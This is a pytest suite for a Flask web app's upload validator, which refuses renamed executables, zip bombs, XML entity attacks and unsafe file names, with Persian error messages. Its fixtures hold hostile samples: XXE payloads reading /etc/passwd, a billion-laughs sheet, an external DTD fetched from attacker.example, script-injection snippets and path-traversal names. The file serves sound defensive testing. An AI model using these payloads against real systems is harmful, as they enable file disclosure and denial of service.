"""Upload checks (RELIABILITY F1, F2, F3) on real files built here: a PDF, an openpyxl workbook, a hand-made DOCX,
images, CSV in three encodings — and the hostile ones: empty, over the limit, renamed executables and web pages,
zip bombs, billion laughs, broken archives, path tricks in names. Pure: no database, only an app for the messages
(Persian by default, as for a visitor with no language chosen)."""

from __future__ import annotations

import hashlib
import io
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator

import pytest
from flask import Flask
from flask_babel import force_locale
from openpyxl import Workbook, load_workbook

from planapp import create_app
from planapp.core import storage, uploads
from planapp.core.errors import ValidationFailed
from planapp.core.uploads import MB, CheckedUpload, UploadRefused, check_upload, safe_download_name

LIMIT = 10 * MB
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

FA_EMPTY = "پرونده خالی است (۰ بایت)."
FA_TOO_LARGE_1MB = "حجم پرونده بیش از حد مجاز ۱ مگابایت است."
FA_NOT_REALLY_PDF = "محتوای پرونده با پسوند آن هم‌خوانی ندارد: این پرونده در واقع PDF نیست."
FA_TYPE_PDF_ONLY = "این نوع پرونده پذیرفته نمی‌شود. نوع‌های مجاز: PDF."
FA_CSV_MARKUP = "پروندهٔ CSV به صفحهٔ وب، اسکریپت یا XML می‌ماند، نه جدول."
FA_BOMB_SIZE = ("این پرونده هنگام باز شدن به بیش از ۱۰۰ مگابایت می‌رسد و به‌عنوان بمب فشرده (zip bomb) احتمالی "
                "پذیرفته نمی‌شود.")
FA_BOMB_ENTRIES = "این پرونده بیش از ۱۰٬۰۰۰ جزء دارد و به‌عنوان بمب فشرده (zip bomb) احتمالی پذیرفته نمی‌شود."
FA_BOMB_RATIO = ("فشردگی این پرونده بسیار بیشتر از یک سند عادی است و به‌عنوان بمب فشرده (zip bomb) احتمالی "
                 "پذیرفته نمی‌شود.")
FA_XML_DTD = "پرونده دارای تعریف‌های DOCTYPE یا ENTITY در XML است که مجاز نیست."
FA_BROKEN_XLSX = "پرونده آسیب دیده است یا پروندهٔ XLSX معتبری نیست."


@pytest.fixture(scope="module")
def messages_app() -> Flask:
    """An app only for rendering messages: its database is never opened."""
    return create_app("test", {"SQLALCHEMY_DATABASE_URI": "sqlite://"})


@pytest.fixture(autouse=True)
def request_context(messages_app: Flask) -> Iterator[None]:
    with messages_app.test_request_context():
        yield


def refused(name: str, data: bytes, max_bytes: int = LIMIT, **kwargs) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        check_upload(name, data, max_bytes, **kwargs)
    return caught.value


def message(error: UploadRefused) -> str:
    return str(error.message)


# --- Real files --------------------------------------------------------------------------------------------------


def make_pdf() -> bytes:
    """A minimal but complete PDF: catalog, page tree, one page, cross-reference table with true offsets."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def make_xlsx() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "شاخص‌ها"
    sheet.append(["شاخص", "سال", "مقدار"])
    sheet.append(["نرخ بیکاری", 1404, 9.5])
    sheet.append(["جمعیت", 1404, 1_868_819])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    '<w:p><w:pPr><w:bidi/></w:pPr><w:r><w:rPr><w:rtl/></w:rPr><w:t>گزارش پیشرفت برنامهٔ استان</w:t></w:r></w:p>'
    "</w:body></w:document>"
)


def make_zip(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def make_docx() -> bytes:
    return make_zip({"[Content_Types].xml": CONTENT_TYPES_DOCX, "_rels/.rels": ROOT_RELS,
                     "word/document.xml": DOCUMENT})


def rezip(data: bytes, replace: dict[str, bytes | str] | None = None, add: dict[str, bytes | str] | None = None
          ) -> bytes:
    """The same package with some parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts: dict[str, bytes | str] = {name: source.read(name) for name in source.namelist()}
    return make_zip({**parts, **(replace or {}), **(add or {})})


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


# A complete 1×1 greyscale PNG and the header of a JFIF JPEG.
PNG = (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
       + png_chunk(b"IDAT", zlib.compress(b"\x00\x80")) + png_chunk(b"IEND", b""))
JPEG = b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xd9"
WEBP = b"RIFF" + struct.pack("<I", 26) + b"WEBPVP8L" + struct.pack("<I", 14) + bytes(14)
CSV_TEXT = "استان,شاخص,مقدار\nگلستان,نرخ بیکاری,9.5\nتهران,\"جمعیت, کل\",13267637\n"
CSV_TEXT_1256 = "استان,شاخص,مقدار\nگلستان,نرخ بيکاري,9.5\n"  # Arabic yeh: Windows-1256 has no Persian ی


@pytest.mark.parametrize(("name", "build", "kind", "content_type"), [
    ("مصوبهٔ شورا.pdf", make_pdf, "pdf", "application/pdf"),
    ("شاخص‌های استان.xlsx", make_xlsx, "xlsx", XLSX_TYPE),
    ("گزارش.DOCX", make_docx, "docx", DOCX_TYPE),
    ("نمودار.png", lambda: PNG, "png", "image/png"),
    ("عکس.jpg", lambda: JPEG, "jpeg", "image/jpeg"),
    ("عکس.jpeg", lambda: JPEG, "jpeg", "image/jpeg"),
    ("نقشه.webp", lambda: WEBP, "webp", "image/webp"),
    ("داده.csv", lambda: CSV_TEXT.encode(), "csv", "text/csv; charset=utf-8"),
    ("داده-اکسل.csv", lambda: CSV_TEXT.encode("utf-8-sig"), "csv", "text/csv; charset=utf-8"),
    ("داده-ویندوز.csv", lambda: CSV_TEXT_1256.encode("cp1256"), "csv", "text/csv; charset=windows-1256"),
])
def test_real_files_are_accepted_with_their_kind_name_type_size_and_hash(name, build, kind, content_type):
    data = build()
    checked = check_upload(name, data, LIMIT)
    assert checked == CheckedUpload(kind, name, content_type, len(data), hashlib.sha256(data).hexdigest())


def test_the_generated_office_files_are_really_readable():
    """The fixtures above are what they claim to be (the checks are tested against real files, not guesses)."""
    workbook = load_workbook(io.BytesIO(make_xlsx()))
    assert workbook.active["A2"].value == "نرخ بیکاری"
    with zipfile.ZipFile(io.BytesIO(make_docx())) as docx:
        assert "گزارش پیشرفت" in docx.read("word/document.xml").decode()
    assert make_pdf().endswith(b"%%EOF\n")


def test_images_written_by_pillow_are_accepted():
    image_module = pytest.importorskip("PIL.Image")
    picture = image_module.new("RGB", (8, 8), (30, 120, 200))
    for format_, extension, kind in (("PNG", "png", "png"), ("JPEG", "jpg", "jpeg"), ("WEBP", "webp", "webp")):
        buffer = io.BytesIO()
        picture.save(buffer, format_)
        assert check_upload(f"chart.{extension}", buffer.getvalue(), LIMIT).kind == kind


def test_a_file_of_exactly_the_limit_is_accepted_and_one_byte_more_is_refused():
    pdf = make_pdf()
    exact = pdf + b"\n" * (MB - len(pdf))
    assert check_upload("a.pdf", exact, MB).size == MB
    error = refused("a.pdf", exact + b"\n", MB)
    assert (error.reason, message(error)) == ("too_large", FA_TOO_LARGE_1MB)


def test_an_empty_file_is_refused():
    error = refused("report.pdf", b"")
    assert (error.reason, message(error), error.field) == ("empty", FA_EMPTY, "file")
    assert isinstance(error, ValidationFailed)


def test_messages_follow_the_language_of_the_user():
    with force_locale("en"):
        assert message(refused("a.pdf", b"")) == "The file is empty (0 bytes)."
        assert message(refused("a.pdf", b"x" * (MB + 1), MB)) == "The file is larger than the limit of 1 MB."
        assert message(refused("a.pdf", b"x" * 10, int(1.5 * MB))).endswith(
            "not really a PDF file.")
        assert message(refused("a.exe", b"MZ")).endswith("Allowed types: PDF, XLSX, DOCX, CSV, PNG, JPEG, WEBP.")
        assert message(refused("a.pdf", b"x" * (int(1.5 * MB) + 1), int(1.5 * MB))).endswith("1.5 MB.")


# --- Names and types ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["program.exe", "page.html", "image.svg", "script.js", "macro.xlsm", "old.xls",
                                  "archive.zip", "noextension", "../../etc/passwd", "\u202egnp.exe",
                                  "invoice\u202efdp.exe", "report.pdf.exe", "report.pdf\x00.exe", ""])
def test_extensions_outside_the_allowed_list_are_refused(name):
    error = refused(name, make_pdf())
    assert error.reason == "type"
    assert message(error).startswith("این نوع پرونده پذیرفته نمی‌شود.")


def test_a_caller_can_narrow_the_kinds():
    error = refused("table.xlsx", make_xlsx(), kinds={"pdf"})
    assert (error.reason, message(error)) == ("type", FA_TYPE_PDF_ONLY)
    assert check_upload("resolution.pdf", make_pdf(), LIMIT, kinds={"pdf"}).kind == "pdf"


@pytest.mark.parametrize(("name", "data", "reason"), [
    ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(100), "content"),  # a Windows executable
    ("setup.xlsx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(100), "content"),
    ("setup.docx", b"\x7fELF\x02\x01\x01" + bytes(100), "content"),
    ("page.pdf", b"<html><body>%PDF-</body></html>", "content"),
    ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "content"),
    ("photo.jpg", b"GIF89a\x01\x00\x01\x00", "content"),
    ("photo.webp", b"RIFF\x00\x00\x00\x00WAVEfmt ", "content"),
    ("table.xlsx", make_pdf(), "content"),
    ("table.xlsx", make_docx(), "content"),  # a Word document is not a workbook…
    ("report.docx", make_xlsx(), "content"),  # …nor the other way round
    ("table.xlsx", make_zip({"readme.txt": "just a zip"}), "content"),
    ("table.xlsx", rezip(make_xlsx(), replace={"[Content_Types].xml": make_zip({"a": "b"})}), "broken"),
    ("table.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "office_legacy"),  # .xls or encrypted
])
def test_content_that_does_not_match_its_extension_is_refused(name, data, reason):
    assert refused(name, data).reason == reason


def test_an_executable_renamed_pdf_gets_a_clear_persian_message():
    assert message(refused("invoice.pdf", b"MZ\x90\x00" + bytes(60))) == FA_NOT_REALLY_PDF


def test_a_macro_workbook_renamed_xlsx_is_refused():
    xlsx = make_xlsx()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    macro = types.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert macro != types
    assert refused("budget.xlsx", rezip(xlsx, replace={"[Content_Types].xml": macro})).reason == "content"


# --- CSV ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [
    "<html><body><script>alert(1)</script></body></html>",
    "<!DOCTYPE html><html></html>",
    "\ufeff  \n<script>fetch('/api')</script>",
    '<?xml version="1.0"?><x/>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "  <a href=x>",
    "name,value\nx,<script>alert(1)</script>\n",  # a sniffable tag near the start
    "name,value\nx,1\n<HTML><BODY>",
])
def test_html_script_or_xml_renamed_csv_is_refused(text):
    error = refused("data.csv", text.encode("utf-8"))
    assert (error.reason, message(error)) == ("csv_markup", FA_CSV_MARKUP)


def test_a_csv_may_mention_angle_brackets_in_its_cells():
    data = "شاخص,شرط\nرشد,< 5%\nتورم,a<b\n".encode()
    assert check_upload("data.csv", data, LIMIT).kind == "csv"


@pytest.mark.parametrize(("data", "reason"), [
    (b"name,value\nx,1\x00\n", "csv_binary"),
    ("نام,مقدار\n".encode("utf-16"), "csv_binary"),  # UTF-16 has NUL bytes: save as UTF-8
    (b"name,value\nx,\x1b[31m\n", "csv_encoding"),
    (b"\x89PNG\r\n\x1a\n\x01\x02\x03", "csv_encoding"),
])
def test_binary_or_control_characters_in_a_csv_are_refused(data, reason):
    assert refused("data.csv", data).reason == reason


# --- ZIP bombs, entity expansion, broken archives ----------------------------------------------------------------


def zip_with_zeros(base: bytes, name: str, size: int) -> bytes:
    """`base` plus one entry of `size` zero bytes, written in chunks so the test never holds it whole."""
    buffer = io.BytesIO(base)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as entry:
        block = bytes(MB)
        for _ in range(size // MB):
            entry.write(block)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def bomb_xlsx() -> bytes:
    return zip_with_zeros(make_xlsx(), "xl/worksheets/sheet2.xml", 200 * MB)


def bounded_refusal(name: str, data: bytes) -> tuple[UploadRefused, int]:
    """The refusal and the most memory Python allocated to reach it."""
    tracemalloc.start()
    try:
        error = refused(name, data)
        return error, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_zip_bomb_xlsx_is_refused_from_its_central_directory(bomb_xlsx):
    assert len(bomb_xlsx) < 1 * MB  # 200 MB of zeros, compressed
    error, peak = bounded_refusal("budget.xlsx", bomb_xlsx)
    assert (error.reason, message(error)) == ("zip_bomb", FA_BOMB_SIZE)
    assert peak < 8 * MB  # nothing was inflated


def test_a_part_compressed_far_beyond_a_real_document_is_refused():
    data = zip_with_zeros(make_xlsx(), "xl/media/image1.png", 20 * MB)  # under the total bound, ratio ~1000
    error, peak = bounded_refusal("budget.xlsx", data)
    assert (error.reason, message(error)) == ("zip_bomb", FA_BOMB_RATIO)
    assert peak < 8 * MB


def test_a_package_with_too_many_parts_is_refused():
    buffer = io.BytesIO(make_xlsx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as archive:
        for number in range(uploads.MAX_ZIP_ENTRIES):
            archive.writestr(f"xl/p/{number}.xml", b"")
    error = refused("budget.xlsx", buffer.getvalue())
    assert (error.reason, message(error)) == ("zip_bomb", FA_BOMB_ENTRIES)


def test_a_central_directory_of_60000_entries_is_refused_before_it_is_loaded():
    """Only the central directory and its end record, built by hand: ZipFile would make 60,000 objects of it."""
    count, name = 60_000, b"a"
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0,
                        0, 0, 0) + name
    directory = entry * count
    start = b"PK\x03\x04" + bytes(26)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(start), 0)
    error, peak = bounded_refusal("budget.xlsx", start + directory + end)
    assert (error.reason, message(error)) == ("zip_bomb", FA_BOMB_ENTRIES)
    assert peak < 8 * MB


def patch_declared_size(data: bytes, name: str, size: int) -> bytes:
    """Make the central directory lie about one part's uncompressed size."""
    out, start = bytearray(data), 0
    while True:
        start = out.index(b"PK\x01\x02", start)
        name_length = struct.unpack("<H", out[start + 28: start + 30])[0]
        if out[start + 46: start + 46 + name_length] == name.encode():
            out[start + 24: start + 28] = struct.pack("<I", size)
            return bytes(out)
        start += 4


def test_a_package_that_lies_about_its_sizes_is_read_only_as_far_as_it_declares():
    data = patch_declared_size(zip_with_zeros(make_xlsx(), "xl/media/blob.bin", 50 * MB), "xl/media/blob.bin", 1000)
    error, peak = bounded_refusal("budget.xlsx", data)
    assert (error.reason, message(error)) == ("broken", FA_BROKEN_XLSX)  # its checksum does not match
    assert peak < 8 * MB


def incompressible_comment(length: int) -> str:
    """An XML comment of `length` characters that deflate cannot shrink much (so the ratio check stays quiet)."""
    filler = "".join(hashlib.sha256(str(n).encode()).hexdigest() for n in range(length // 64 + 1))
    return "<!--" + filler[: length - 7] + "-->"


BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">\n' for n in range(1, 10))
    + ']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    '<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)
XXE = ('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&xxe;</worksheet>')

EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://attacker.example/x.dtd"><w/>'


def test_a_billion_laughs_sheet_is_refused():
    error = refused("budget.xlsx", rezip(make_xlsx(), replace={"xl/worksheets/sheet1.xml": BILLION_LAUGHS}))
    assert (error.reason, message(error)) == ("xml_dtd", FA_XML_DTD)


@pytest.mark.parametrize(("name", "replace", "reason"), [
    ("budget.xlsx", {"xl/worksheets/sheet1.xml": XXE}, "xml_dtd"),
    ("budget.xlsx", {"[Content_Types].xml": '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "b">]><Types/>'},
     "xml_dtd"),
    # Hidden behind a comment, in a part whose name does not say XML: every part is read.
    ("report.docx", {"word/custom.bin": "<!-- <root> -->" + XXE}, "xml_dtd"),
    # An external DTD straddling the boundary between two reads ("<!DO" | "CTYPE").
    ("report.docx", {"word/padded.xml": incompressible_comment(uploads.CHUNK - len("<?xml version=\"1.0\"?>") - 4)
                     + EXTERNAL_DTD}, "xml_dtd"),
    # The same in encodings a byte search would not see.
    ("budget.xlsx", {"xl/worksheets/sheet1.xml": BILLION_LAUGHS.encode("utf-16")}, "xml_encoding"),
    ("budget.xlsx", {"xl/worksheets/sheet1.xml": BILLION_LAUGHS.encode("utf-16-le")}, "xml_encoding"),
    ("budget.xlsx", {"xl/worksheets/sheet1.xml": BILLION_LAUGHS.encode("utf-32")}, "xml_encoding"),
    ("budget.xlsx", {"xl/worksheets/sheet1.xml": BILLION_LAUGHS.replace('"UTF-8"', '"UTF-7"')}, "xml_encoding"),
    ("budget.xlsx", {"xl/styles.xml": '<?xml version="1.0" encoding="ISO-8859-1"?><styleSheet/>'}, "xml_encoding"),
])
def test_entity_declarations_are_refused_in_every_part_and_encoding(name, replace, reason):
    base = make_xlsx() if name.endswith(".xlsx") else make_docx()
    assert refused(name, rezip(base, add=replace)).reason == reason


def test_broken_archives_are_refused():
    xlsx = make_xlsx()
    assert message(refused("budget.xlsx", b"PK\x03\x04" + b"garbage" * 50)) == FA_BROKEN_XLSX
    assert refused("budget.xlsx", xlsx[: len(xlsx) // 2]).reason == "broken"
    # A flipped byte inside the compressed sheet: the checksum catches it when the part is read.
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    offset = sheet.header_offset + 30 + len(sheet.filename.encode()) + len(sheet.extra) + sheet.compress_size // 2
    corrupted = xlsx[:offset] + bytes([xlsx[offset] ^ 0xFF]) + xlsx[offset + 1:]
    assert refused("budget.xlsx", corrupted).reason == "broken"


def test_duplicate_part_names_are_refused():
    buffer = io.BytesIO(make_docx())
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/document.xml", XXE)
    assert refused("report.docx", buffer.getvalue()).reason == "broken"


# --- Download names ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("original", "expected"), [
    ("../../etc/passwd", "passwd"),
    ("..\\..\\boot.ini", "boot.ini"),
    ("C:\\Windows\\system32\\drivers.pdf", "drivers.pdf"),
    ("/var/www/../../x", "x"),
    ("CON.pdf", "_CON.pdf"),
    ("con", "_con"),
    ("Lpt1.report.xlsx", "_Lpt1.report.xlsx"),
    ("COM9 .csv", "_COM9 .csv"),
    ("CONSOLE.pdf", "CONSOLE.pdf"),
    ("\u202egnp.exe", "gnp.exe"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),
    ("\u200fگزارش\u200e.pdf", "گزارش.pdf"),
    ('a<b>c:d"e|f?g*h.pdf', "abcdefgh.pdf"),
    ("tab\there\nnew\rline.pdf", "tabherenewline.pdf"),
    ("...hidden.pdf", "hidden.pdf"),
    ("  spaced   out  .pdf", "spaced out .pdf"),
    ("report.pdf. . ", "report.pdf"),
    ("می‌خواهم گزارش ۱۴۰۵.xlsx", "می‌خواهم گزارش ۱۴۰۵.xlsx"),  # ZWNJ and Persian digits stay
    ("", "fallback.pdf"),
    ("../", "fallback.pdf"),
    ("\u202e\u200b", "fallback.pdf"),
])
def test_safe_download_names(original, expected):
    assert safe_download_name(original, "fallback.pdf") == expected


def test_a_download_name_is_never_empty():
    assert safe_download_name("..", "") == "download"
    assert safe_download_name("...", "../") == "download"


def test_a_300_character_persian_name_is_cut_to_150_keeping_the_extension():
    original = "گزارش پیشرفت برنامه " * 15 + ".xlsx"
    assert len(original) == 305
    name = safe_download_name(original, "x.xlsx")
    assert len(name) <= 150 and name.endswith(".xlsx") and name.startswith("گزارش پیشرفت")
    checked = check_upload(original, make_xlsx(), LIMIT)
    assert checked.name == name and checked.kind == "xlsx"


def test_hostile_names_are_made_safe_by_check_upload():
    assert check_upload("..\\..\\report.pdf", make_pdf(), LIMIT).name == "report.pdf"
    assert check_upload("../../CON.pdf", make_pdf(), LIMIT).name == "_CON.pdf"
    assert check_upload("PRN.csv", CSV_TEXT.encode(), LIMIT).name == "_PRN.csv"


def test_storage_still_offers_safe_download_name():
    assert storage.safe_download_name is safe_download_name
